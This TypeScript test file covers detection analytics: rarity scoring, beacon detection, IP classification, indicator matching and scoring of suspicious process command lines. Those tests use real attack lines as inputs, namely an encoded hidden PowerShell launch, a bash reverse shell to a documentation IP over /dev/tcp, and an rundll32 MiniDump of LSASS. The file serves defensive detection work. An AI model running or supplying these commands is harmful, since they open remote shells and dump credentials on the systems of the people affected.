import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ANALYTICS } from '../catalogue/analytics.ts';
import type { AnalyticArguments, AnalyticColumns, AnalyticRow, AnalyticValue } from './analytic.ts';
import { IMPLEMENTATIONS } from './analytics.ts';
import { ipClass } from './classify-ip.ts';

type Given = Readonly<Record<string, readonly (readonly AnalyticValue[])[]>>;

const row = (key: string, given: Given): AnalyticRow => ({ key, values: (argument) => given[argument] ?? [] });

const withArguments = (numbers: Record<string, number>, texts: readonly string[] = []): AnalyticArguments => ({
  number: (name) => numbers[name] ?? 0,
  texts: () => new Set(texts),
});

const NONE = withArguments({ least: 6 });

function rate(name: string, rows: readonly AnalyticRow[], given = NONE): readonly AnalyticColumns[] {
  const analytic = IMPLEMENTATIONS[name];
  if (analytic === undefined) throw new Error(name);
  return analytic.scope === 'row' ? rows.map((each) => analytic.rate(each, given)) : analytic.rate(rows, given);
}

const named = (...names: string[]): AnalyticRow[] => names.map((name, i) => row(String(i), { by: [[name]] }));
const at = (seconds: number): AnalyticValue => ({ ms: 1_700_000_000_000 + seconds * 1000, ns: 0 });

describe('the analytics of the catalogue', () => {
  test('each have an implementation of the scope stated, and there are no others', () => {
    expect(Object.keys(IMPLEMENTATIONS).sort()).toEqual(ANALYTICS.map(({ name }) => name).sort());
    for (const { name, scope } of ANALYTICS) expect(IMPLEMENTATIONS[name]?.scope).toBe(scope);
  });

  const value = fc.oneof(
    fc.string(),
    fc.constantFrom('10.0.0.1', 'sh', 'powershell -enc x', '::1'),
    fc.integer(),
    fc.boolean(),
    fc.integer({ min: -8.64e15, max: 8.64e15 }).map((ms) => ({ ms, ns: 0 })),
    fc.array(fc.string(), { maxLength: 3 }),
  );
  const values = fc.array(fc.array(value, { maxLength: 3 }), { maxLength: 3 });
  const rows = fc.array(
    fc.record({ by: values, time: values, attribute: values, command_line: values }).map((given) => row('', given)),
    { maxLength: 20 },
  );

  test.each(ANALYTICS)('$name takes any values, in any order, and gives its own columns only', ({ name, columns }) => {
    const known = new Set(columns.map((column) => column.name));
    fc.assert(
      fc.property(rows, fc.nat(), (drawn, turn) => {
        const results = rate(name, drawn, withArguments({ least: 3 }, ['sh']));
        expect(results).toHaveLength(drawn.length);
        for (const result of results) expect(Object.keys(result).filter((each) => !known.has(each))).toEqual([]);
        const by = drawn.length === 0 ? 0 : turn % drawn.length;
        const turned = [...drawn.slice(by), ...drawn.slice(0, by)];
        const again = rate(name, turned, withArguments({ least: 3 }, ['sh']));
        expect([...results.slice(by), ...results.slice(0, by)]).toEqual(again);
      }),
      { numRuns: 200 },
    );
  });
});

describe('rarity', () => {
  test('is 1 for a value of its own, 0 where all are alike, and grows as values get rarer', () => {
    expect(rate('rarity', named('sh', 'sh', 'sh', 'nc'))).toEqual([
      { x_rarity_score: 0.2075, x_rarity_count: 3 },
      { x_rarity_score: 0.2075, x_rarity_count: 3 },
      { x_rarity_score: 0.2075, x_rarity_count: 3 },
      { x_rarity_score: 1, x_rarity_count: 1 },
    ]);
    expect(rate('rarity', named('sh', 'sh')).map((each) => each['x_rarity_score'])).toEqual([0, 0]);
    expect(rate('rarity', named('sh'))[0]).toEqual({ x_rarity_score: 1, x_rarity_count: 1 });
  });

  test('says nothing of entities without the attribute, and does not count them', () => {
    expect(rate('rarity', [...named('sh'), row('x', { by: [[]] })])).toEqual([
      { x_rarity_score: 1, x_rarity_count: 1 },
      {},
    ]);
  });
});

describe('first-seen', () => {
  test('gives the least time of a value and marks who had it', () => {
    const seen = (name: string, seconds: number): AnalyticRow => row(name, { by: [[name]], time: [[at(seconds)]] });
    expect(rate('first-seen', [seen('a', 5), seen('a', 3), seen('b', 9), row('a', { by: [['a']] })])).toEqual([
      { x_first_seen: at(3), x_is_first: false },
      { x_first_seen: at(3), x_is_first: true },
      { x_first_seen: at(9), x_is_first: true },
      { x_first_seen: at(3), x_is_first: false },
    ]);
  });
});

describe('beaconing', () => {
  const series = (to: string, seconds: readonly number[]): AnalyticRow[] =>
    seconds.map((each) => row('', { by: [[to]], time: [[at(each)]] }));

  test('a slow beacon with jitter scores near 1, connections by hand do not', () => {
    const beacon = series('c2', [0, 301, 599, 902, 1200, 1499, 1801, 2100]);
    const byHand = series('web', [0, 2, 3, 400, 401, 409, 2000, 2007]);
    const [rated, other] = [rate('beaconing', [...byHand, ...beacon]).at(-1), rate('beaconing', byHand)[0]];
    expect(rated).toEqual({ x_beacon_count: 8, x_beacon_interval: 299, x_beacon_score: 0.9967 });
    expect(other?.['x_beacon_score']).toBeLessThan(0.5);
  });

  test('one night of silence does not hide it; few connections and bursts are none', () => {
    const night = series('c2', [0, 60, 120, 180, 30_000, 30_060, 30_120, 30_180]);
    expect(rate('beaconing', night)[0]?.['x_beacon_score']).toBe(1);
    expect(rate('beaconing', series('x', [0, 60, 120]))).toEqual(
      Array.from({ length: 3 }, () => ({ x_beacon_count: 3 })),
    );
    expect(rate('beaconing', series('x', [0, 0, 0, 0, 0, 0, 9]))[0]?.['x_beacon_score']).toBe(0);
  });
});

describe('classify-ip', () => {
  test.each([
    ['10.1.2.3', 'private'],
    ['172.32.0.1', 'public'],
    ['100.64.0.1', 'shared'],
    ['127.0.0.1', 'loopback'],
    ['169.254.169.254', 'link-local'],
    ['239.0.0.1', 'multicast'],
    ['203.0.113.9', 'documentation'],
    ['8.8.8.8', 'public'],
    ['fe80::1', 'link-local'],
    ['fd00::1', 'private'],
    ['::ffff:10.0.0.1', 'private'],
    ['2a00::1', 'public'],
    ['::', 'unspecified'],
    ['host.example', undefined],
    ['1.2.3', undefined],
  ])('%s is %s', (address, expected) => {
    expect(ipClass(address)).toBe(expected);
  });
});

describe('suspicious-process-scoring', () => {
  const score = (line: string): AnalyticColumns | undefined =>
    rate('suspicious-process-scoring', [row('p', { command_line: [[line]] })])[0];

  test('attacks score, with their techniques; what administrators do does not', () => {
    expect(score('PowerShell.exe -NoP -W Hidden -Enc SQBFAFgA')).toEqual({
      x_suspicious_score: 5,
      x_suspicious_techniques: ['T1059.001'],
    });
    expect(score('/bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"')?.['x_suspicious_score']).toBe(5);
    expect(score('rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\lsass.dmp full')).toEqual({
      x_suspicious_score: 9,
      x_suspicious_techniques: ['T1003.001', 'T1218.011'],
    });
    for (const line of ['/usr/sbin/sshd -D', 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p', 'ls -la /tmp'])
      expect(score(line)).toEqual({ x_suspicious_score: 0 });
  });
});

describe('ioc-match', () => {
  test('finds indicators whole, whatever their case', () => {
    const rows = [row('a', { by: [['EVIL.example']] }), row('b', { by: [['evil.example.org']] })];
    expect(rate('ioc-match', rows, withArguments({}, ['evil.example']))).toEqual([{ x_ioc: ['EVIL.example'] }, {}]);
  });
});
